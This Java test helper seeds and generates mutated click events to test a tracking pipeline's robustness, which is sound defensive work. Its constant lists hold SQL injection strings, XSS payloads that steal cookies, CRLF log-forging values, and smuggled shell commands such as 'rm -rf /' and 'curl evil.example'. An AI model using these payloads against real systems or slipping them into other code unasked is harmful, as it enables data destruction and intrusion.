package io.clickpulse.reliability;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Mutated click events, seeded: each record is either hostile but valid (SQL- and script-looking
 * values, control characters and CRLF in free-text fields, odd Unicode, values at their length
 * limits), an exact repeat of such a record, or broken in one of many ways (random bytes, truncated
 * or deeply nested JSON, oversized, invalid UTF-8, control characters in ids, absurd timestamps,
 * wrong types, empty and null records). Which is which is known by construction.
 */
final class HostileInput {
  /** A forged log line: if a field's CRLF ever reached a log unescaped, a line would start so. */
  static final String FORGED = "23:59:59.999 ERROR ClickPipelineJob - FORGED";

  private static final List<String> SQL =
      List.of(
          "'; DROP TABLE clicks; --",
          "1' OR '1'='1",
          "\\'; TRUNCATE TABLE clicks_hourly; SELECT '",
          "{event_id:String}",
          "?, ?, ?) --",
          "%27%20OR%201%3D1",
          "`rm -rf /`",
          "$(curl evil.example)",
          "') ENGINE=Memory AS SELECT * FROM system.users --");
  private static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(document.cookie)>",
          "\"><svg/onload=alert(1)>",
          "javascript:alert(1)",
          "{{7*7}}${7*7}<%= 7*7 %>",
          "*bold* <!channel> <@U123> `code`");
  private static final List<String> UNICODE =
      List.of(
          "caf\u00e9 \u65e5\u672c\u8a9e \ud83d\ude80\ud83d\udd25",
          "\u202eevil\u202c right-to-left override",
          "zero\u200bwidth\u200djoiner\ufeff",
          "e\u0301\u0301\u0301 combining",
          "\ud834\udd1e musical symbol, 4 bytes in UTF-8");
  private static final List<String> CONTROL =
      List.of(
          "Mozilla/5.0\r\n" + FORGED + " crlf in a field",
          "tab\there\u0000nul\u0007bell\u001bescape",
          "line1\nline2\rline3",
          "\u0085next line\u2028line separator");

  /** What the pipeline must do with a record. */
  enum Fate {
    STORED,
    DUPLICATE,
    REJECTED
  }

  /** A record to send: key, value (null for a tombstone) and its fate. */
  record Hostile(String key, byte[] value, Fate fate, ObjectNode event) {}

  private final Random random;
  private final long now = System.currentTimeMillis();
  private final List<Hostile> stored = new ArrayList<>();
  private int next;

  HostileInput(long seed) {
    this.random = new Random(seed);
  }

  List<Hostile> generate(int count) {
    List<Hostile> records = new ArrayList<>(count);
    for (int i = 0; i < count; i++) {
      records.add(next());
    }
    return records;
  }

  private Hostile next() {
    int roll = random.nextInt(100);
    if (roll < 40) {
      ObjectNode event = hostileValidEvent();
      Hostile h = new Hostile(event.get("event_id").asText(), bytes(event), Fate.STORED, event);
      stored.add(h);
      return h;
    }
    if (roll < 45 && !stored.isEmpty()) {
      Hostile original = stored.get(random.nextInt(stored.size()));
      return new Hostile(original.key(), original.value(), Fate.DUPLICATE, original.event());
    }
    return rejected(random.nextInt(13));
  }

  private ObjectNode hostileValidEvent() {
    ObjectNode e =
        base("evt-" + next++ + pick(List.of("", "-'\";--", "-<b>", "-\u00e9\ud83d\ude80")));
    switch (random.nextInt(6)) {
      case 0 -> {
        e.put("utm_source", pick(SQL));
        e.put("utm_campaign", pick(SQL));
        e.put("utm_term", pick(SQL));
      }
      case 1 -> {
        e.put("utm_source", pick(MARKUP));
        e.put("utm_content", pick(MARKUP));
        e.put("referrer", "https://evil.example/?q=" + pick(MARKUP));
        e.put("campaign_owner", pick(MARKUP));
      }
      case 2 -> {
        e.put("user_agent", pick(CONTROL));
        e.put("referrer", pick(CONTROL));
        e.put("utm_content", pick(CONTROL));
      }
      case 3 -> {
        e.put("utm_campaign", pick(UNICODE));
        e.put("utm_term", pick(UNICODE));
        e.putObject("custom").put("\u952e-\u00e9\ud83d\ude80", pick(UNICODE));
      }
      case 4 -> {
        e.put("utm_source", "s".repeat(1024));
        e.put("user_agent", "Mozilla/5.0 " + "x".repeat(1012));
        e.put("destination_url", "https://shop.example/" + "p".repeat(4000));
      }
      default -> {
        ObjectNode custom = e.putObject("custom");
        for (int i = 0; i < 32; i++) {
          custom.put("k" + i + pick(List.of("'", "<", "\\", "\"", "}")), pick(SQL));
        }
      }
    }
    return e;
  }

  private Hostile rejected(int kind) {
    ObjectNode e = base("bad-" + next++);
    byte[] value =
        switch (kind) {
          case 0 -> randomBytes(1 + random.nextInt(2000));
          case 1 -> {
            byte[] whole = bytes(e);
            yield java.util.Arrays.copyOf(whole, 1 + random.nextInt(whole.length - 1));
          }
          case 2 -> nested(2000 + random.nextInt(3000));
          case 3 -> {
            ObjectNode deep = e.putObject("custom");
            for (int i = 0; i < 50; i++) {
              deep = deep.putObject("n");
            }
            yield bytes(e);
          }
          case 4 -> {
            e.put("user_agent", "U".repeat(40_000 + random.nextInt(100_000)));
            yield bytes(e);
          }
          case 5 -> {
            e.put("utm_source", "u".repeat(1025 + random.nextInt(10_000)));
            yield bytes(e);
          }
          case 6 -> invalidUtf8(bytes(e));
          case 7 -> {
            e.put("event_id", "bad\r\n" + FORGED + " " + next);
            yield bytes(e);
          }
          case 8 -> {
            absurdTime(e);
            yield bytes(e);
          }
          case 9 -> {
            e.put("ip", pick(List.of("300.1.2.3", "1.2.3", "::ffff:999.1.1.1", "localhost", "")));
            yield bytes(e);
          }
          case 10 ->
              pick(List.of("[1,2,3]", "\"just a string\"", "42", "null", "{\"a\":1,\"a\":2}"))
                  .getBytes(StandardCharsets.UTF_8);
          case 11 -> random.nextBoolean() ? new byte[0] : null;
          default -> {
            e.put("redirect_status", pick(List.of("302", "9999", "-1")));
            e.set("is_test", e.textNode("yes"));
            yield bytes(e);
          }
        };
    if (value != null) {
      Leaks.ipsIn(new String(value, StandardCharsets.ISO_8859_1));
    }
    return new Hostile(e.get("event_id").asText(), value, Fate.REJECTED, null);
  }

  private void absurdTime(ObjectNode e) {
    switch (random.nextInt(7)) {
      case 0 -> e.put("event_time", -1L);
      case 1 -> e.put("event_time", 0L);
      case 2 -> e.put("event_time", Long.MAX_VALUE);
      case 3 -> e.put("event_time", 1e30);
      case 4 -> e.put("event_time", "NaN");
      case 5 -> e.put("event_time", now + 86_400_000L);
      default -> e.put("event_time", 253_402_300_800_000L);
    }
  }

  private ObjectNode base(String id) {
    ObjectNode e = Json.MAPPER.createObjectNode();
    e.put("event_id", id);
    e.put("event_time", now - random.nextInt(3_600_000));
    e.put("link_id", "lnk-hostile-" + random.nextInt(5));
    e.put("short_url", "https://cpl.sh/hostile");
    e.put("destination_url", "https://shop.example/hostile?utm_source=x");
    e.put("user_agent", ClickStream.HUMAN);
    String ip = "198.18." + random.nextInt(256) + "." + (1 + random.nextInt(254));
    e.put("ip", ip);
    Leaks.ip(ip);
    e.put("country", "NL");
    return e;
  }

  private static byte[] nested(int depth) {
    StringBuilder json = new StringBuilder();
    json.append("{\"a\":".repeat(depth)).append('1').append("}".repeat(depth));
    return json.toString().getBytes(StandardCharsets.UTF_8);
  }

  /** The record with a lone continuation byte and a truncated sequence inside a string. */
  private byte[] invalidUtf8(byte[] json) {
    String text = new String(json, StandardCharsets.UTF_8);
    int at = text.indexOf("\"link_id\":\"") + "\"link_id\":\"".length();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] head = text.substring(0, at).getBytes(StandardCharsets.UTF_8);
    out.write(head, 0, head.length);
    out.write(random.nextBoolean() ? 0x80 : 0xC3);
    out.write(0x28);
    byte[] tail = text.substring(at).getBytes(StandardCharsets.UTF_8);
    out.write(tail, 0, tail.length);
    return out.toByteArray();
  }

  private byte[] randomBytes(int n) {
    byte[] b = new byte[n];
    random.nextBytes(b);
    return b;
  }

  private <T> T pick(List<T> values) {
    return values.get(random.nextInt(values.size()));
  }

  private static byte[] bytes(ObjectNode node) {
    return node.toString().getBytes(StandardCharsets.UTF_8);
  }

  /** Sent events by id, for reading them back. */
  static Map<String, ObjectNode> byId(List<Hostile> records) {
    Map<String, ObjectNode> events = new HashMap<>();
    for (Hostile h : records) {
      if (h.fate() == Fate.STORED) {
        events.put(h.event().get("event_id").asText(), h.event());
      }
    }
    return events;
  }
}
